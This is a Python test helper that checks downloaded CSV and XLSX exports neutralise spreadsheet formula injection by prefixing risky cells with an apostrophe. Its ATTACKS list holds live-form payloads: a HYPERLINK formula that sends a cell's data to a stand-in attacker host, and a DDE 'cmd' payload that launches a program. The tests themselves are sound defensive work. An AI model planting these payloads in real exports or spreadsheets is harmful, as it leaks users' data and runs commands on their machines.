"""What an attacker types into free-text fields, and checks that a downloaded table
holds it inertly: no cell that Excel, LibreOffice or Google Sheets would run as a
formula (OWASP's CSV injection list)."""

import csv
import io
import re

from openpyxl import load_workbook

ATTACKS = [
    '=HYPERLINK("https://aanvaller.example/?d="&A2,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"^[-+]?\d[\d.,]*([eE][-+]?\d+)?$")


def csv_rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def assert_inert_csv(content):
    """Every cell starting like a formula is a plain number; returns the rows."""
    rows = csv_rows(content)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.match(cell), cell
    return rows


def assert_inert_xlsx(content):
    """No formula cells, and no text starting like a formula; returns the cell values."""
    sheet = load_workbook(io.BytesIO(content)).active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_STARTS), (cell.coordinate, cell.value)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def assert_attacks_kept_as_text(cells):
    """Each attack is still there, behind the apostrophe that neutralises it."""
    text = [str(cell) for row in cells for cell in row]
    for attack in ATTACKS:
        assert any(f"'{attack}" in cell for cell in text), attack
